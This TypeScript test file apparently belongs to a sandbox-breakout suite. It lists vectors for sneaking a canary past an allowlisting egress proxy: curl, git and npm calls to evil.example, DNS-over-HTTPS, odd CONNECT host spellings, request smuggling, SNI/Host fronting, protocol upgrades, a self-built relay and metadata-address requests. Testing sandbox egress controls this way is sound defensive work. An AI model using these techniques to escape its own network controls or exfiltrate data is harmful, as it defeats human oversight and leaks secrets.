import { type Vector, vectors } from "../../support/breakout/vector.ts"

/** Through the proxy, under a name that is not the one that was judged. */

const unlisted = vectors(
  { gate: "egress: host", leak: "canary", lang: "sh" },
  ["https to an unlisted host", "2", `curl -sk -m3 "https://evil.example/$CANARY"`],
  ["http to an unlisted host", "2", `curl -s -m3 "http://evil.example/$CANARY"`],
  ["an unlisted host's name as the message", "8", `curl -sk -m3 "https://$CANARY.evil.example/"`],
  ["http to a host listed for https", "2", `curl -s -m3 "http://listed.example/public/$CANARY"`],
  ["http to port 443 of a listed host", "2", `curl -s -m3 "http://listed.example:443/public/$CANARY"`],
  ["another port of a listed host", "5", `curl -sk -m3 "https://listed.example:8443/public/$CANARY"`],
  [
    "curl --connect-to through the proxy",
    "3",
    `curl -sk -m3 --connect-to listed.example:443:evil.example:443 "https://listed.example/public/$CANARY"`,
  ],
  [
    "ALL_PROXY as SOCKS",
    "1",
    `env -u HTTPS_PROXY -u https_proxy ALL_PROXY=socks5h://127.0.0.1:9099 curl -sk -m3 "https://evil.example/$CANARY"`,
    { unshown: "the open proxy speaks no SOCKS either" },
  ],
  [
    "a redirect to an unlisted host, followed",
    "14",
    `curl -skL -m3 "https://listed.example/public/redirect?to=https://evil.example/" | grep "upstream says" && echo LEAK`,
    { leak: "said" },
  ],
  [
    "a push by git",
    "26",
    `mkdir r; cd r; git init -q; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m "$CANARY"; GIT_SSL_NO_VERIFY=1 git push -q "https://evil.example/$CANARY" HEAD`,
  ],
  [
    "a registry that is not listed",
    "26",
    `cd /tmp; npm_config_strict_ssl=false npm_config_fetch_retries=0 timeout 5 npm view --registry https://evil.example/ "$CANARY"`,
    { unshown: "npm takes too long to fail" },
  ],
  ["DNS over https", "8", `curl -sk -m3 "https://dns.google/dns-query?name=$CANARY.evil.example"`],
)

const literal = vectors(
  { gate: "egress: host", leak: "canary", lang: "sh" },
  ["an address as the host", "own", `curl -sk -m3 "https://203.0.113.10/$CANARY"`],
  ["an address, plain", "own", `curl -s -m3 "http://169.254.169.254/$CANARY"`],
  ["an IPv6 address as the host", "own", `curl -s -m3 "http://[2001:db8::1]/$CANARY"`],
  ["an IPv4 address inside IPv6, plain", "own", `curl -s -m3 "http://[::ffff:203.0.113.10]/$CANARY"`],
  ["the host's own address", "11", `curl -s -m3 "http://10.99.0.1:2375/$CANARY"`],
  [
    "the proxy's own loopback",
    "11",
    `curl -s -m3 --noproxy '' -x http://127.0.0.1:9099 "http://127.0.0.1:2375/$CANARY"`,
  ],
  [
    "localhost by name",
    "11",
    `curl -s -m3 --noproxy '' -x http://127.0.0.1:9099 "http://localhost:2375/$CANARY"`,
    { unshown: "localhost is what the machine says it is" },
  ],
)

/** CONNECT to odd spellings; whatever opens is used to send the canary. */
const spelled = (authority: string, sni = "evil.example") =>
  `ask(f"GET /{CANARY} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n", authority=${authority}, sni="${sni}")`

const spellings = vectors(
  { gate: "egress: host", leak: "canary", lang: "py" },
  ["CONNECT to an unlisted host", "4", spelled(`"evil.example:443"`)],
  ["CONNECT to an address", "4", spelled(`"203.0.113.10:443"`)],
  ["CONNECT to a decimal address", "own", spelled(`"3405803786:443"`)],
  ["CONNECT to an octal address", "own", spelled(`"0313.0.0161.012:443"`)],
  ["CONNECT to a hexadecimal address", "own", spelled(`"0xcb00710a:443"`)],
  ["CONNECT to a short address", "own", spelled(`"203.0.28938:443"`)],
  ["CONNECT to an address in brackets", "own", spelled(`"[::ffff:203.0.113.10]:443"`)],
  ["CONNECT with a NUL before the listed name", "1", spelled(`b"listed.example\\0evil.example:443"`)],
  [
    "CONNECT with a NUL after the unlisted name",
    "1",
    spelled(`b"evil.example\\0.listed.example:443"`),
    { unshown: "the open proxy reads what comes after the NUL" },
  ],
  [
    "CONNECT with a name before an @",
    "own",
    spelled(`"listed.example@evil.example:443"`),
    { unshown: "the open proxy knows no userinfo here" },
  ],
  [
    "CONNECT with name and port before an @",
    "own",
    spelled(`"listed.example:443@evil.example:443"`),
    { unshown: "as above" },
  ],
  ["CONNECT to a name that ends like a listed one", "own", spelled(`"evil-listed.example:443"`)],
  ["CONNECT to a name that begins like a listed one", "own", spelled(`"listed.example.evil.example:443"`)],
  [
    "CONNECT to a name with an escaped dot",
    "own",
    spelled(`"listed.example%2eevil.example:443"`),
    { unshown: "resolvers refuse the name" },
  ],
  [
    "CONNECT to a name with an ideographic dot",
    "own",
    spelled(`"listed.example\\u3002evil.example:443".encode()`),
    { unshown: "resolvers refuse the name" },
  ],
  ["CONNECT to a final dot", "own", spelled(`"evil.example.:443"`)],
  ["CONNECT to port 22 of a listed host", "7", spelled(`"listed.example:22"`)],
  [
    "CONNECT with a second request behind it",
    "4",
    `
raw(b"CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\nGET /" + B + b" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")`,
  ],
  [
    "CONNECT with the listed name in Host",
    "5",
    `
ask(f"GET /{CANARY} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n", head=b"CONNECT evil.example:443 HTTP/1.1\\r\\nHost: listed.example:443\\r\\n\\r\\n", sni="evil.example")`,
  ],
  [
    "CONNECT with a line break in the name",
    "own",
    spelled(`b"listed.example\\r\\nX: .evil.example:443"`),
    { unshown: "the open proxy stops at the line" },
  ],
  [
    "CONNECT by way of the proxy itself",
    "4",
    spelled(`"127.0.0.1:9099"`),
    { unshown: "the open proxy would wait for itself" },
  ],
  [
    "a proxy of the agent's own in between",
    "4",
    `
def relay():
    s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); ports.append(s.getsockname()[1])
    c, _ = s.accept(); c.recv(4096)
    u = socket.create_connection(("203.0.113.10", 443), 1); u.sendall(B)
ports = []; t = threading.Thread(target=relay, daemon=True); t.start()
while not ports: time.sleep(0.01)
socket.create_connection(("127.0.0.1", ports[0])).sendall(b"CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n"); t.join(2)`,
  ],
)

const absolute = (url: string, host: string) => `raw(f"GET ${url} HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n".encode())`

const absoluteForms = vectors(
  { gate: "egress: host", leak: "canary", lang: "py" },
  ["absolute-form to an unlisted host, listed Host", "12", absolute("http://evil.example/{CANARY}", "listed.example")],
  [
    "absolute-form with a listed name before an @",
    "12",
    absolute("http://listed.example@evil.example/{CANARY}", "listed.example"),
  ],
  [
    "absolute-form with a backslash",
    "12",
    absolute("http://evil.example\\\\@listed.example/{CANARY}", "listed.example"),
    { unshown: "readers differ; the open proxy takes one" },
  ],
  [
    "absolute-form of https to a listed host",
    "12",
    absolute("https://listed.example/public/{CANARY}", "listed.example"),
  ],
  ["absolute-form of another scheme", "own", absolute("ftp://evil.example/{CANARY}", "evil.example")],
  ["origin-form at the proxy", "own", absolute("/{CANARY}", "evil.example")],
  ["authority-form without CONNECT", "own", absolute("evil.example:443/{CANARY}", "evil.example")],
  [
    "absolute-form with a port of its own",
    "12",
    absolute("http://listed.example:8080/public/{CANARY}", "listed.example"),
  ],
)

const fronting = vectors(
  { gate: "egress: TLS name", leak: "canary", lang: "py" },
  [
    "another server name in the handshake",
    "5",
    `ask(f"GET /public/{CANARY} HTTP/1.1\\r\\nHost: listed.example\\r\\n\\r\\n", sni="evil.example")`,
  ],
  [
    "the message as server name",
    "5",
    `ask("GET /public/ HTTP/1.1\\r\\nHost: listed.example\\r\\n\\r\\n", sni=CANARY + ".evil.example")`,
  ],
  [
    "no server name, another Host",
    "5",
    `ask(f"GET /public/{CANARY} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n", sni=None)`,
  ],
  [
    "the right server name, another Host",
    "5",
    `ask(f"GET /public/{CANARY} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")`,
  ],
  ["Host with another port", "5", `ask(f"GET /public/{CANARY} HTTP/1.1\\r\\nHost: listed.example:8443\\r\\n\\r\\n")`],
  [
    "Host twice",
    "5",
    `ask(f"GET /public/{CANARY} HTTP/1.1\\r\\nHost: listed.example\\r\\nHost: evil.example\\r\\n\\r\\n")`,
  ],
  [
    "Host with two names",
    "5",
    `ask(f"GET /public/{CANARY} HTTP/1.1\\r\\nHost: listed.example, evil.example\\r\\n\\r\\n")`,
  ],
  ["no Host at all", "5", `ask(f"GET /public/{CANARY} HTTP/1.1\\r\\n\\r\\n")`],
  [
    "absolute-form of another host in a tunnel",
    "5",
    `ask(f"GET https://evil.example/{CANARY} HTTP/1.1\\r\\nHost: listed.example\\r\\n\\r\\n")`,
  ],
  [
    "a tunnel inside a tunnel",
    "4",
    `ask(f"CONNECT {CANARY}.evil.example:443 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")`,
  ],
  [
    "plain HTTP in a tunnel for TLS",
    "own",
    `ask(f"GET /public/{CANARY} HTTP/1.1\\r\\nHost: listed.example\\r\\n\\r\\n", sni=False)`,
  ],
  ["SSH in a tunnel for TLS", "7", `ask(b"SSH-2.0-" + B + b"\\r\\n", sni=False)`],
  [
    "HTTP/2 by agreement",
    "5",
    `ask(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\4\\0\\0\\0\\0\\0" + B, alpn=["h2"])`,
  ],
  ["HTTP/2 without agreement", "5", `ask(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n\\0\\0\\0\\4\\0\\0\\0\\0\\0" + B)`],
  [
    "h2c by upgrade",
    "5",
    `ask(f"GET /public/{CANARY} HTTP/1.1\\r\\nHost: listed.example\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n")`,
  ],
  [
    "a WebSocket where none is allowed",
    "18",
    `ask(f"GET /public/{CANARY} HTTP/1.1\\r\\nHost: listed.example\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n")`,
  ],
  [
    "a false 101, then anything",
    "18",
    `
s = tunnel()
s.sendall(b"GET /public/false-101 HTTP/1.1\\r\\nHost: listed.example\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n")
show(read(s)); s.sendall(b"free " + B); show(read(s, 0.3))`,
  ],
  [
    "a false 101 without asking",
    "own",
    `
s = tunnel(); s.sendall(b"GET /public/false-101 HTTP/1.1\\r\\nHost: listed.example\\r\\n\\r\\n")
show(read(s)); s.sendall(b"free " + B); show(read(s, 0.3))`,
  ],
)

const dialling = vectors(
  { gate: "egress: address", leak: "canary", lang: "sh" },
  ["a listed name that leads to the metadata address", "8", `curl -sk -m3 "https://metadata.example/$CANARY"`],
  ["a listed name that leads into a private network", "8", `curl -sk -m3 "https://intranet.example/$CANARY"`],
  ["a listed name that leads to loopback", "8", `curl -sk -m3 "https://loopback.example/$CANARY"`],
)

export const names: readonly Vector[] = [
  ...unlisted,
  ...literal,
  ...spellings,
  ...absoluteForms,
  ...fronting,
  ...dialling,
]
